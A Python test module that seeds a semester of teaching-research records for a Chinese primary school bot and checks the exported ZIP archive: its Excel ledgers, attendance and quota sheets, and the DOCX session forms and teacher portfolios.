"""The term's archive: /export after a seeded semester, read back as 教导处 would open it.

One seeded school (``bot.demo.seed_semester`` plus a few records handed in through the forms)
is built once for the module and exported three times (全校, 语文组, 刘洋); the tests open
the ZIPs with openpyxl and python-docx. The clock stands at Monday 2026-11-30 08:00.
A session's form is named after its group and start, ``语文组_2026-09-02_1450.docx``.
"""

from __future__ import annotations

import asyncio
import io
import math
import re
import warnings
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import docx
import pytest
from docx.enum.table import WD_ROW_HEIGHT_RULE
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Cm, Pt, RGBColor
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from sqlmodel import col, select

from bot.app import build_runner, import_roster, read_roster
from bot.config import Config, load
from bot.demo import seed_semester
from handlers.dispatch import Core
from handlers.exports import safe_name, width
from handlers.types import Reply
from scheduler.clock import ManualClock
from storage.repos import meetings, school
from storage.tables import Attendance, Meeting, Teacher
from tests.conftest import (
    DEMO_ROSTER,
    EXAMPLE_CONFIG,
    START,
    ZONE,
    from_semester_start,
    make_core,
)
from tests.drivers import Driver, button_data, plain, shown
from tests.fakes import hold_archives

LIU, WANG, SUN, ZHOU, CHEN, ZHANG = "刘洋", "王芳", "孙丽", "周静", "陈主任", "张伟"
SEMESTER = "2026-2027学年第一学期"
FEATURE_SHEETS = ["师徒结对记录", "师徒听课记录", "课题"]  # issue 16 §3, §5
TERM_SHEETS = ["考核汇总", "优秀教研组", "计划与总结", "外出学习汇报"]  # issue 16 §6, §7
SHEETS = ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组", "考勤-数学组", "考勤-英语组",
          "考勤-综合组", "请假台账", "公开课台账", "统计汇总", "指标汇总",
          *FEATURE_SHEETS, *TERM_SHEETS]
OBSERVATION_HEADER = ("序号", "听课教师", "教研组", "听课日期", "节次", "年级班级", "学科",
                      "授课教师", "课题", "课型", "优点", "不足", "建议", "提交时间",
                      "检查", "检查人", "检查意见")
SUBMITTED = datetime(2026, 11, 30, 8, 0)  # naive: what openpyxl reads back  # noqa: DTZ001
PROCESS = ("教师先用学生熟悉的分饼情境导入，引出二分之一。"
           "学生动手折纸表示四分之一，再在小组里交流不同的折法，教师巡视并挑选作品展示。")
STRENGTH = "动手操作充分，学生参与度高。"
WEAKNESS = "练习层次不够，后进生跟不上。"
SUGGESTION = "可以增加一道分层的拓展练习。"
# A 读书笔记 of 20 000 字, sent in five messages of 4 000 (the form joins them by line).
NOTE_PHRASE = "教育不是灌输而是点燃火焰，教师要把学生当作有思想的人来对待，"
NOTE_PARTS = [(f"第{i}部分" + NOTE_PHRASE * 200)[:4000] for i in range(1, 6)]
NOTE = "\n".join(NOTE_PARTS)


def day(year: int, month: int, dom: int) -> datetime:
    """A date cell as openpyxl reads it back: a naive datetime at midnight."""
    return datetime.combine(date(year, month, dom), datetime.min.time())




async def fill(bot: Driver, name: str, *steps: str, taps: tuple[str, ...] = ()) -> list[Reply]:
    """Type each step (or press it, when named in ``taps``), then press 提交."""
    replies: list[Reply] = []
    for step in steps:
        if step in taps:
            replies = await bot.send(name, button=button_data(replies, step))
        else:
            replies = await bot.send(name, step)
        assert "⚠️" not in shown(replies), f"{step!r} was refused:\n{shown(replies)}"
    return await bot.send(name, button=button_data(replies, "提交"))


async def observe(bot: Driver, name: str, *, strength: str = STRENGTH) -> list[Reply]:
    return await fill(bot, name, "记听课", "上周三", "三", "四年级1班", "数学", ZHANG,
                      "分数的初步认识", "新授课", PROCESS, "完成", strength, WEAKNESS,
                      SUGGESTION, taps=("数学", "新授课"))


async def long_note(bot: Driver, name: str) -> list[Reply]:
    return await fill(bot, name, "/record 读书笔记", "《给教师的建议》", "/skip", *NOTE_PARTS,
                      "完成")


@dataclass
class Archive:
    """One exported ZIP, opened."""

    filename: str
    caption: str
    files: dict[str, bytes]

    @classmethod
    def of(cls, replies: list[Reply]) -> Archive:
        (reply,) = replies
        assert reply.attachment is not None, plain(reply)
        assert not reply.attachment.is_photo
        with zipfile.ZipFile(io.BytesIO(reply.attachment.content)) as bundle:
            assert bundle.testzip() is None
            files = {name: bundle.read(name) for name in bundle.namelist()}
        return cls(reply.attachment.filename, plain(reply), files)

    def book(self) -> Workbook:
        return load_workbook(io.BytesIO(self.files["台账.xlsx"]))

    def table(self, sheet: str) -> Table:
        """A ledger: its header (row 3), data rows (the autofilter's) and totals rows."""
        found = self.book()[sheet]
        last = int(re.sub(r"\D", "", found.auto_filter.ref.split(":")[1]))
        rows = list(found.iter_rows(values_only=True))
        data = [row for row in rows[3:last] if any(v is not None for v in row)]
        return Table(rows[2], data, rows[last:])

    def rows(self, sheet: str) -> list[tuple[object, ...]]:
        """The data rows of a ledger."""
        return self.table(sheet).data

    def document(self, name: str) -> docx.document.Document:
        return docx.Document(io.BytesIO(self.files[name]))

    def docs(self, folder: str) -> dict[str, docx.document.Document]:
        return {name.removeprefix(folder + "/"): docx.Document(io.BytesIO(content))
                for name, content in self.files.items() if name.startswith(folder + "/")}


@dataclass
class Table:
    header: tuple[object, ...]
    data: list[tuple[object, ...]]
    totals: list[tuple[object, ...]]

    def column(self, title: str) -> list[object]:
        index = self.header.index(title)
        return [row[index] for row in self.data]


def fields(document: docx.document.Document) -> dict[str, str]:
    """A paper form's label → value (label cells are every other distinct cell of a row)."""
    found: dict[str, str] = {}
    for row in document.tables[0].rows:
        cells = []
        for cell in row.cells:
            if not cells or cell._tc is not cells[-1]._tc:
                cells.append(cell)
        for label, value in zip(cells[::2], cells[1::2], strict=False):
            found[label.text] = value.text
    return found


@dataclass
class Seeded:
    """The seeded school and its three archives."""

    core: Core
    counts: dict[str, int]
    school: Archive
    group: Archive
    teacher: Archive
    refused: str
    paused: tuple[str, date]


LEAVE_REASON = "参加区里的骨干教师培训"


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seeded]:
    # A school that used the bot the whole semester: every month is measured.
    config = from_semester_start(load(str(EXAMPLE_CONFIG)).config)
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'yanxiu.db'}"
    core = make_core(config, url, ManualClock(START))
    bot = Driver(core)
    bot.bind(LIU, WANG, SUN, ZHOU, CHEN, ZHANG)

    async def act() -> Seeded:
        counts = seed_semester(core)
        # 王芳 corrects the roll of 11-25: 孙丽 and 周静 缺席; 周静's /pause afterwards does
        # not excuse a session already held (issue 15): she stays 缺席.
        (meeting,) = [m for m in held_sessions(core, "语文组")
                      if m.planned_on == date(2026, 11, 25)]
        roll = await bot.send(WANG, button=f"ses:roll:{meeting.id}")
        for name in (SUN, ZHOU):
            row = next(row for reply in roll for row in reply.buttons
                       if row[0].label == f"{name} 出席")
            roll = await bot.send(WANG, button=row[1].data)
            assert f"{name}：缺席" in shown(roll)
        assert "已经开过的教研不补请假" in await bot.say(ZHOU, "/pause 11月25日 11月25日 外出培训")
        assert "✅ 已提交听课记录「分数的初步认识」。" in shown(await observe(bot, LIU))
        saved = shown(await long_note(bot, LIU))
        assert "✅ 已提交读书笔记「《给教师的建议》」。" in saved
        assert "正文 20000 字。" in saved
        # 刘洋 asks leave for 12-02; 陈主任 approves it.
        (coming,) = [m for m in sessions_of(core, "语文组") if m.planned_on == date(2026, 12, 2)]
        await bot.send(LIU, button=f"att:leave:{coming.id}")
        replies = await fill(bot, LIU, LEAVE_REASON)
        asks = [r for r in replies if r.buttons and r.chat is not None
                and r.chat.address == bot.account(CHEN)]
        assert f"{CHEN}已批准" in shown(await bot.send(CHEN, button=button_data(asks, "批准")))
        refused = await bot.say(LIU, "/export")
        return Seeded(core, counts, Archive.of(await bot.send(CHEN, "/export")),
                      Archive.of(await bot.send(CHEN, "/export 语文组")),
                      Archive.of(await bot.send(CHEN, "/export 刘洋")), refused,
                      (ZHOU, date(2026, 11, 25)))

    yield asyncio.run(act())
    core.db.close()


def group_members(core: Core, group: str) -> list[str]:
    def query(session):  # type: ignore[no-untyped-def]
        from storage.repos import groups

        ids = school.group_ids(session, school_id=core.school_id)
        return [m.name for m in groups.members(session, group_ids=[ids[group]])]

    return core.db.call(query)


def sessions_of(core: Core, group: str | None = None) -> list[meetings.MeetingRow]:
    """The semester's sessions (of one group)."""
    def query(session):  # type: ignore[no-untyped-def]
        ids = school.group_ids(session, school_id=core.school_id)
        wanted = [ids[group]] if group else list(ids.values())
        return meetings.list_meetings(session, group_ids=wanted, start=date(2026, 9, 1),
                                      end=date(2027, 1, 31))

    return core.db.call(query)


def held_sessions(core: Core, group: str | None = None) -> list[meetings.MeetingRow]:
    """Sessions that took place by today (not off, not cancelled)."""
    return [m for m in sessions_of(core, group) if m.held and m.starts_at is not None
            and m.status != meetings.CANCELLED and m.starts_at <= START]


def form_names(sessions: list[meetings.MeetingRow]) -> set[str]:
    """教研活动记录/<group>/第NN次_<start>.docx, numbered per group in time order."""
    names, numbers = set(), {}
    for m in sorted(sessions, key=lambda m: (m.planned_on, m.group_id)):
        assert m.starts_at is not None
        numbers[m.group] = numbers.get(m.group, 0) + 1
        names.add(f"{m.group}/第{numbers[m.group]:02d}次_"
                  f"{m.starts_at.astimezone(ZONE):%Y-%m-%d_%H%M}.docx")
    return names


# -- the ZIP ------------------------------------------------------------------------------


def test_admin_gets_one_zip_with_ledger_sessions_and_portfolios(seeded: Seeded) -> None:
    assert seeded.counts["records"] > 300
    assert seeded.counts["sessions"] > 30
    archive = seeded.school
    assert archive.filename == f"花城小学_{SEMESTER}_20261130.zip"
    assert re.fullmatch(rf"📦 花城小学_{SEMESTER}_20261130\.zip（\d+ KB）："
                        r"台账、教研活动记录和个人研修档案。", archive.caption)
    expected = form_names(held_sessions(seeded.core))
    assert set(archive.docs("教研活动记录")) == expected
    assert len(expected) == seeded.counts["sessions"]
    roster = [line.split(",") for line in DEMO_ROSTER.read_text(encoding="utf-8").splitlines()[1:]]
    assert set(archive.docs("个人研修档案")) == {f"{row[0]}_{row[4]}.docx" for row in roster}
    assert set(archive.files) == {"台账.xlsx"} | {f"教研活动记录/{n}" for n in expected} | {
        f"个人研修档案/{row[0]}_{row[4]}.docx" for row in roster}


def test_teacher_cannot_export(seeded: Seeded) -> None:
    assert seeded.refused == "抱歉，只有管理员可以使用 /export。"


# -- 台账.xlsx: paper ----------------------------------------------------------------------


def test_ledger_sheets_and_headers(seeded: Seeded) -> None:
    book = seeded.school.book()
    assert book.sheetnames == SHEETS
    assert tuple(seeded.school.table("听课台账").header) == OBSERVATION_HEADER
    assert seeded.school.table("反思与材料台账").header == (
        "序号", "教师", "教研组", "类型", "题目", "日期", "字数", "计入指标", "状态", "提交时间",
        "检查", "检查人", "检查意见")
    assert seeded.school.table("教研活动").header == (
        "次序", "教研组", "日期", "星期", "时间", "状态", "原定日期", "专题", "主讲", "形式",
        "地点", "应到", "实到", "请假", "缺席", "备注")


def test_every_sheet_prints_on_a4_landscape_one_page_wide(seeded: Seeded) -> None:
    for sheet in seeded.school.book().worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert int(setup.paperSize) == 9  # A4
        assert int(setup.fitToWidth) == 1
        assert int(setup.fitToHeight) == 0  # as many pages down as needed
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$3:$3", sheet.title  # the header on every page
        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
        assert sheet.freeze_panes == "A4"
        assert sheet.auto_filter.ref.startswith("A3:")
        # The title row names school, semester and ledger; the second the export date.
        assert sheet["A1"].value == f"花城小学{SEMESTER}{sheet.title}"
        assert "A1" in {str(r).split(":")[0] for r in sheet.merged_cells.ranges}
        assert sheet["A1"].font.name == "黑体"
        assert "导出日期：2026年11月30日" in sheet["A2"].value
        for cell in sheet[3]:
            assert (cell.font.name, cell.font.b, cell.font.charset) == ("黑体", True, 134)
            assert cell.border.left.style == "thin"


def test_body_cells_are_songti_bordered_and_wrapped_tall_enough(seeded: Seeded) -> None:
    book = seeded.school.book()
    sheet = book["听课台账"]
    last = int(re.sub(r"\D", "", sheet.auto_filter.ref.split(":")[1]))
    tall = 0
    for row in sheet.iter_rows(min_row=4, max_row=last):
        for cell in row:
            assert (cell.font.name, cell.font.charset) == ("宋体", 134)
            assert cell.font.scheme is None  # a theme font would replace the name
            assert {cell.border.left.style, cell.border.right.style, cell.border.top.style,
                    cell.border.bottom.style} == {"thin"}
            assert cell.alignment.wrap_text
        strength = row[10]
        columns = sheet.column_dimensions["K"].width
        lines = math.ceil(width(strength.value) / (columns - 1))
        assert sheet.row_dimensions[strength.row].height >= lines * 13, strength.row
        tall = max(tall, lines)
    assert tall >= 2  # some 优点 take more than one line, and their rows grow
    # The theme names the East Asian fonts as well (text without a cell font, WPS).
    theme = book.loaded_theme.decode()
    assert '<a:ea typeface="黑体"/>' in theme
    assert '<a:ea typeface="宋体"/>' in theme


def test_dates_are_dates_and_numbers_are_numbers(seeded: Seeded) -> None:
    book = seeded.school.book()
    for title, letter, fmt in (("听课台账", "D", "yyyy-mm-dd"),
                               ("听课台账", "N", "yyyy-mm-dd hh:mm"),
                               ("反思与材料台账", "F", "yyyy-mm-dd"),
                               ("教研活动", "C", "yyyy-mm-dd"),
                               ("公开课台账", "B", "yyyy-mm-dd")):
        last = int(re.sub(r"\D", "", book[title].auto_filter.ref.split(":")[1]))
        cells = [c for c in book[title][letter][3:last] if c.value is not None]
        assert cells, title
        assert all(isinstance(c.value, datetime) for c in cells), (title, letter)
        assert all(c.number_format == fmt for c in cells), (title, letter)
    observations = seeded.school.table("听课台账")
    assert all(isinstance(v, int) for v in observations.column("节次"))
    assert all(isinstance(v, int) for v in seeded.school.table("反思与材料台账").column("字数"))
    quotas = seeded.school.table("指标汇总")
    assert all(isinstance(v, int) for v in quotas.column("学期完成"))
    assert all(v is None or isinstance(v, float | int) for v in quotas.column("完成率"))
    assert book["指标汇总"]["N4"].number_format == "0.0%"


def test_totals_rows(seeded: Seeded) -> None:
    observations = seeded.school.table("听课台账")
    assert observations.totals == [("合计", len(observations.data), *(None,) * 15)]
    records = seeded.school.table("反思与材料台账")
    live = [row for row in records.data if row[8] != "已删除"]
    assert records.totals[0][:2] == ("合计", len(live))
    assert records.totals[0][6] == sum(row[6] for row in live)
    attendance = seeded.school.book()["考勤-语文组"]
    formats = [cell.number_format for cell in attendance[attendance.max_row]]
    assert formats[-6:] == ["0"] * 5 + ["0.0%"]  # 应到 … 缺席 as counts, 出勤率 as percent
    assert set(formats[2:-6]) == {"General"}  # 实到 per session
    sessions = seeded.school.table("教研活动")
    held = [row for row in sessions.data if row[5] == "已开展"]
    assert sessions.totals[0][:2] == ("合计", f"已开展{len(held)}次")
    assert sessions.totals[0][11:15] == tuple(sum(row[i] for row in held) for i in range(11, 15))


def test_counts_per_teacher_per_group_and_in_all(seeded: Seeded) -> None:
    table = seeded.school.table("统计汇总")
    header = list(table.header)
    assert header[:3] == ["序号", "教研组", "教师"]
    assert header[-5:] == ["字数合计", "公开课", "应到", "出勤", "出勤率（含准假）"]
    kinds = header[3:-5]
    assert "听课记录" in kinds
    assert "教学反思" in kinds
    assert "教研活动记录" not in kinds
    records = seeded.school.rows("反思与材料台账")
    observations = seeded.school.rows("听课台账")
    people = [row for row in table.data if row[0] != "小计"]
    for row in people:
        name = row[2]
        mine = [r for r in records if r[1] == name and r[8] != "已删除"]
        assert row[header.index("教学反思")] == sum(1 for r in mine if r[3] == "教学反思")
        assert row[header.index("听课记录")] == sum(1 for r in observations if r[1] == name)
        assert row[header.index("字数合计")] >= sum(r[6] for r in mine)
    # Admins in no group: no sessions, so no attendance figures rather than 0/0.
    for row in people:
        if row[2] in ("李校长", "赵老师"):
            assert row[-3:] == (None, None, None)
    # A 小计 per group sums its people; the 合计 sums everyone.
    groups = [row for row in table.data if row[0] == "小计"]
    assert [row[1] for row in groups] == ["语文组", "数学组", "英语组", "综合组", "无"]
    chinese = [row for row in people if row[1] == "语文组"]
    subtotal = groups[0]
    for index in range(3, len(header) - 1):
        assert subtotal[index] == sum(row[index] or 0 for row in chinese), header[index]
    assert groups[-1][-3:] == (None, None, None)  # the admins in no group
    (total,) = table.totals
    assert total[0] == "合计"
    assert total[3:-1] == tuple(sum(row[i] or 0 for row in people)
                                for i in range(3, len(header) - 1))


def test_observation_row_of_a_form_record_is_exact(seeded: Seeded) -> None:
    rows = seeded.school.rows("听课台账")
    mine = [row for row in rows if row[1] == LIU and row[13] == SUBMITTED]
    assert len(mine) == 1
    assert mine[0][1:] == (LIU, "语文组", day(2026, 11, 25), 3, "四年级1班", "数学", ZHANG,
                           "分数的初步认识", "新授课", STRENGTH, WEAKNESS, SUGGESTION, SUBMITTED,
                           "未检查", None, None)
    assert [row[0] for row in rows] == list(range(1, len(rows) + 1))
    notes = [row for row in seeded.school.rows("反思与材料台账")
             if row[1] == LIU and row[9] == SUBMITTED]
    assert [row[1:9] for row in notes] == [
        (LIU, "语文组", "读书笔记", "《给教师的建议》", day(2026, 11, 30), 20000, "是", None)]


# -- 台账.xlsx: the figures ----------------------------------------------------------------


def _attendance(core: Core) -> dict[tuple[str, str], str]:
    """(teacher, m/d) → what the DB says, as the ledger should mark it."""
    def query(session):  # type: ignore[no-untyped-def]
        return session.exec(select(Teacher.name, Meeting.starts_at, Attendance.status)
                            .join(Attendance, col(Attendance.teacher_id) == col(Teacher.id))
                            .join(Meeting, col(Meeting.id) == col(Attendance.meeting_id))).all()

    rows = core.db.call(query)
    marks = {}
    for name, starts_at, status in rows:
        day = starts_at.astimezone(ZONE).date()
        marks[(name, f"{day.month}/{day.day}")] = (
            "出席" if status == "present" else "请假" if status == "leave" else
            "未准假" if status in ("leave_pending", "leave_refused") else "缺席")
    return marks


def test_attendance_counts_held_sessions_only_and_matches_the_database(seeded: Seeded) -> None:
    table = seeded.school.table("考勤-语文组")
    count = len(held_sessions(seeded.core, "语文组"))
    days = [str(d) for d in table.header[2:2 + count]]
    assert table.header[2 + count:] == ("应到", "出席", "请假", "未准假", "缺席",
                                        "出勤率（含准假）")
    held = held_sessions(seeded.core, "语文组")
    assert days == [f"{m.starts_at.astimezone(ZONE).month}/{m.starts_at.astimezone(ZONE).day}"
                    for m in held if m.starts_at is not None]
    assert "10/8" in days  # 10-07 was in 国庆: moved to Thursday
    assert "12/2" not in days  # not held yet: no column, though 刘洋 has leave for it
    in_db = _attendance(seeded.core)
    assert [row[1] for row in table.data] == group_members(seeded.core, "语文组")
    seen = set()
    for row in table.data:
        name, marks = row[1], row[2:2 + count]
        for when, mark in zip(days, marks, strict=True):
            assert mark == in_db.get((name, when), "缺席"), (name, when)
            seen.add(mark)
        due, present, leave, refused, absent, rate = row[2 + count:]
        assert due == count
        assert (present, leave, refused + absent) == (
            marks.count("出席"), marks.count("请假"), marks.count("未准假") + marks.count("缺席"))
        assert rate == pytest.approx((present + leave) / count)
    assert {"出席", "请假", "缺席"} <= seen
    name, when = seeded.paused
    column = days.index(f"{when.month}/{when.day}") + 2
    assert next(row for row in table.data if row[1] == name)[column] == "缺席"
    assert next(row for row in table.data if row[1] == SUN)[column] == "缺席"
    (totals,) = table.totals
    assert totals[0] == "实到人数"
    assert totals[2:2 + count] == tuple(sum(1 for row in table.data if row[2 + i] == "出席")
                                        for i in range(count))


def test_sessions_are_held_not_held_cancelled_or_moved(seeded: Seeded) -> None:
    table = seeded.school.table("教研活动")
    states = table.column("状态")
    assert set(states) <= {"已开展", "未开展", "取消", "顺延"}
    today = day(2026, 11, 30)
    for row in table.data:
        if row[5] == "已开展":
            assert row[2] <= today, row
            assert re.fullmatch(r"第\d+次", row[0]), row
            assert all(isinstance(v, int) for v in row[11:15]), row
        else:  # nothing that has not happened is shown as if it had
            assert row[0] is None, row
            assert row[11:15] == (None,) * 4, row
            if row[5] == "未开展":
                assert row[2] > today, row
    assert states.count("已开展") == len(held_sessions(seeded.core))
    moved = next(row for row in table.data if row[1] == "语文组" and row[2] == day(2026, 10, 8))
    assert moved[6] == day(2026, 10, 7)  # 原定日期


def test_quota_summary_has_a_row_per_applicable_quota_and_months(seeded: Seeded) -> None:
    table = seeded.school.table("指标汇总")
    assert table.header == ("序号", "教研组", "教师", "项目", "每月目标", "9月", "10月", "11月",
                            "12月", "1月", "学期完成", "学期目标", "单位", "完成率",
                            "状态（本期）")
    liu = {row[3]: row for row in table.data if row[2] == LIU}
    assert "听课（管理员）" not in liu  # not his quota: no row at all
    assert "听课" in liu
    assert "教学反思" in liu
    notes = liu["读书笔记"]
    assert notes[11] == 7000
    assert notes[12] == "字"
    assert notes[10] >= 20000
    assert notes[14] == "已完成"
    stories = liu["教育故事"]
    assert stories[4] == 2
    assert all(isinstance(v, int) for v in stories[5:8])  # September … November
    assert stories[8:10] == (None, None)  # December and January have not begun
    assert stories[10] == sum(stories[5:8])
    assert stories[11] == 2 * 5
    assert stories[14] in ("已完成", "进度正常", "稍落后", "落后较多")
    # Admins in no group have no sessions: no 出勤 row, rather than "0/0".
    for name in ("李校长", "赵老师"):
        assert "教研活动出勤" not in {row[3] for row in table.data if row[2] == name}, name
    assert "教研活动出勤" in liu


def test_leave_ledger_says_who_approved_and_when(seeded: Seeded) -> None:
    table = seeded.school.table("请假台账")
    assert table.header == ("序号", "教研组", "活动日期", "教师", "请假原因", "审批结果", "审批人",
                            "审批时间")
    mine = [row for row in table.data if row[3] == LIU and row[2] == day(2026, 12, 2)]
    assert mine == [(mine[0][0], "语文组", day(2026, 12, 2), LIU, LEAVE_REASON, "准假", CHEN,
                     SUBMITTED)]


def test_open_lesson_ledger_lists_the_lessons(seeded: Seeded) -> None:
    table = seeded.school.table("公开课台账")
    assert table.header[:12] == ("序号", "日期", "星期", "节次", "授课教师", "教研组", "类型",
                                 "学科", "班级", "课题", "地点", "状态")
    assert table.header[12:] == ("预约人数", "听课教师", "说课稿/教学设计")
    assert len(table.data) == seeded.counts["lessons"]
    assert all(row[11] in ("已开展", "未开展", "取消") for row in table.data)


# -- the DOCX forms -----------------------------------------------------------------------


SESSION_FIELDS = ("学期", "周次", "时间", "节次", "地点", "形式", "主持人", "主讲", "记录人",
                  "应到/实到", "缺席", "请假", "研修主题", "活动主题", "活动过程", "讨论要点",
                  "结论与改进措施", "小结")


def _paper(document: docx.document.Document) -> None:
    """A4, zh-CN, 宋体 body, a centred 黑体 title, the school as author."""
    section = document.sections[0]
    assert abs(section.page_width - Cm(21)) < Cm(0.01)
    assert abs(section.page_height - Cm(29.7)) < Cm(0.01)
    defaults = document.styles.element.find(qn("w:docDefaults"))
    lang = defaults.find(qn("w:rPrDefault")).find(qn("w:rPr")).find(qn("w:lang"))
    assert (lang.get(qn("w:val")), lang.get(qn("w:eastAsia"))) == ("zh-CN", "zh-CN")
    for style, font in (("Normal", "宋体"), ("Title", "黑体"), ("Heading 1", "黑体")):
        fonts = document.styles[style].element.rPr.rFonts
        assert fonts.get(qn("w:eastAsia")) == font, style
        assert fonts.get(qn("w:ascii")) == font, style
        for theme in ("w:asciiTheme", "w:hAnsiTheme", "w:eastAsiaTheme", "w:cstheme"):
            assert fonts.get(qn(theme)) is None, (style, theme)
    assert document.styles["Normal"].font.size == Pt(10.5)  # 五号
    title = document.styles["Title"]
    assert title.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert title.font.color.rgb == RGBColor(0, 0, 0)
    properties = document.core_properties
    assert properties.author == "花城小学"
    assert properties.created == START  # now, as UTC
    assert properties.language == "zh-CN"
    assert properties.title


def test_session_forms_are_paper_forms(seeded: Seeded) -> None:
    forms = seeded.school.docs("教研活动记录")
    for name, document in forms.items():
        _paper(document)
        values = fields(document)
        assert tuple(values) == SESSION_FIELDS, name
        for label in ("学期", "周次", "时间", "节次", "地点", "主持人", "主讲", "应到/实到",
                      "研修主题", "活动主题"):
            assert values[label], (name, label)
        held = re.fullmatch(r".+/第(\d+)次_(\d{4})-(\d{2})-(\d{2})_(\d{2})(\d{2})\.docx", name)
        assert held is not None, name
        assert values["时间"].startswith(f"{held[2]}年{held[3]}月{held[4]}日（周"), name
        assert f"{held[5]}:{held[6]}–" in values["时间"], name
        assert document.paragraphs[0].text == "花城小学教研活动记录"
        assert document.paragraphs[0].style.name == "Title"
        assert f"第{int(held[1])}次" in document.paragraphs[1].text
        table = document.tables[0]
        assert table.columns[0].width < Cm(3)  # a narrow label column
        boxes = {row.cells[0].text: row for row in table.rows}
        for label, height in (("活动过程", 3.5), ("讨论要点", 4.5), ("结论与改进措施", 2.5),
                              ("小结", 2.5)):
            assert boxes[label].height_rule == WD_ROW_HEIGHT_RULE.AT_LEAST
            assert boxes[label].height >= Cm(height - 0.01), label
        assert values["小结"] == ""  # not collected yet: an empty box to write in
        signatures = document.paragraphs[-2].text + document.paragraphs[-1].text
        assert "教研组长（签名）" in signatures
        assert "教导处审核（签名）" in signatures
        assert "日期" in signatures
    first = fields(forms["语文组/第01次_2026-09-02_1450.docx"])
    assert first["主讲"] == WANG
    assert first["主持人"] == WANG
    assert first["记录人"] == WANG
    assert first["周次"] == "第1周"
    assert first["节次"] == "第三、四节"
    assert first["讨论要点"]
    assert first["研修主题"].startswith("基于核心素养的课堂教学改进")
    members = group_members(seeded.core, "语文组")
    assert re.fullmatch(rf"应到 {len(members)} 人，实到 \d 人", first["应到/实到"])
    assert first["缺席"]
    # Leave names who approved it (the seeded semester's leave is approved by 陈主任).
    assert any(f"（{CHEN}批准）" in fields(d)["请假"] for d in forms.values())


def test_portfolio_reads_like_a_paper_file(seeded: Seeded) -> None:
    portfolios = seeded.school.docs("个人研修档案")
    document = portfolios[f"{LIU}_2002.docx"]
    _paper(document)
    texts = [p.text for p in document.paragraphs]
    assert "个人研修档案" in texts
    assert "花城小学" in texts
    assert SEMESTER in texts
    cover = fields(document)
    assert cover["姓名"] == LIU
    assert cover["教研组"] == "语文组"
    assert cover["学科"] == "语文"
    assert cover["研修主题"].startswith("基于核心素养")
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings == ["目　录", "一、研修指标完成情况", "二、教研活动出勤", "三、公开课",
                        "四、研修记录",
                        "五、课题研究",  # issue 16 §5
                        "六、学期总结", "七、评价"]
    quota_table = document.tables[1]
    assert [c.text for c in quota_table.rows[0].cells] == [
        "项目", "9月", "10月", "11月", "12月", "1月", "完成", "目标", "状态"]
    stories = next(row for row in quota_table.rows if row.cells[0].text == "教育故事")
    assert stories.cells[4].text == ""
    assert stories.cells[1].text.isdigit()
    # Every text in full, full width (a paragraph, not half a table).
    assert any(p.text.endswith(NOTE) for p in document.paragraphs)
    assert f"一个优点：{STRENGTH}" in texts
    assert f"教学过程与观察：{PROCESS}" in texts
    # Short answers share one line.
    assert f"听课日期：2026-11-25　节次：3　年级班级：四年级1班　学科：数学　授课教师：{ZHANG}　" \
        "课型：新授课" in texts
    # Sections by kind, numbered, records numbered in date order.
    kinds = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    assert any(re.fullmatch(r"（[一二三四五六七八九十]）读书笔记　\d+ 份", k) for k in kinds)
    # Room for 学期总结 and 评价: tall empty boxes.
    summary, review = document.tables[-2], document.tables[-1]
    assert summary.rows[0].height >= Cm(9.9)
    assert summary.rows[0].cells[0].text == ""
    assert [row.cells[0].text for row in review.rows] == ["教研组评价", "教导处评价"]
    # Everyone's portfolio has one numbered record per record of theirs in the ledgers
    # (minutes of sessions are not in the ledgers' record sheets).
    listed = seeded.school.rows("反思与材料台账") + seeded.school.rows("听课台账")
    for name, portfolio in portfolios.items():
        teacher = name.split("_")[0]
        kinds = [p.text for p in portfolio.paragraphs if p.style.name == "Heading 2"]
        records = [p for p in portfolio.paragraphs if p.style.name == "Heading 3"]
        minutes = sum(int(re.search(r"(\d+) 份", k)[1]) for k in kinds if "教研活动记录" in k)
        deleted = sum(1 for r in listed if r[1] == teacher and len(r) == 10 and r[8] == "已删除")
        assert len(records) - minutes == sum(1 for r in listed if r[1] == teacher) - deleted, name


# -- narrower scopes ----------------------------------------------------------------------


def test_export_of_one_group(seeded: Seeded) -> None:
    archive = seeded.group
    assert archive.filename == f"花城小学_{SEMESTER}_语文组_20261130.zip"
    book = archive.book()
    assert book.sheetnames == ["听课台账", "反思与材料台账", "教研活动", "考勤-语文组", "请假台账",
                               "公开课台账", "统计汇总", "指标汇总", *FEATURE_SHEETS,
                               *TERM_SHEETS]
    members = group_members(seeded.core, "语文组")
    assert {row[2] for row in archive.rows("指标汇总")} == set(members)
    assert {row[1] for row in archive.rows("听课台账")} <= set(members)
    assert {row[1] for row in archive.rows("教研活动")} == {"语文组"}
    assert all(name.startswith("语文组/") for name in archive.docs("教研活动记录"))
    assert len(archive.docs("教研活动记录")) == len(held_sessions(seeded.core, "语文组"))
    assert {name.split("_")[0] for name in archive.docs("个人研修档案")} == set(members)
    assert archive.rows("考勤-语文组") == seeded.school.rows("考勤-语文组")


def test_export_of_one_teacher(seeded: Seeded) -> None:
    archive = seeded.teacher
    assert archive.filename == f"花城小学_{SEMESTER}_刘洋_20261130.zip"
    assert list(archive.docs("个人研修档案")) == [f"{LIU}_2002.docx"]
    assert {row[2] for row in archive.rows("指标汇总")} == {LIU}
    assert {row[1] for row in archive.rows("听课台账")} == {LIU}
    assert {row[1] for row in archive.rows("反思与材料台账")} == {LIU}
    assert [row[1] for row in archive.rows("考勤-语文组")] == [LIU]
    assert {row[3] for row in archive.rows("请假台账")} == {LIU}


def test_teacher_export_has_only_their_groups_sessions(seeded: Seeded) -> None:
    names = set(seeded.teacher.docs("教研活动记录"))
    assert names
    assert {name.split("/")[0] for name in names} == {"语文组"}
    assert names == {name for name in seeded.school.docs("教研活动记录")
                     if name.startswith("语文组/")}
    # The same sessions, counted over the whole group, as in the school's archive.
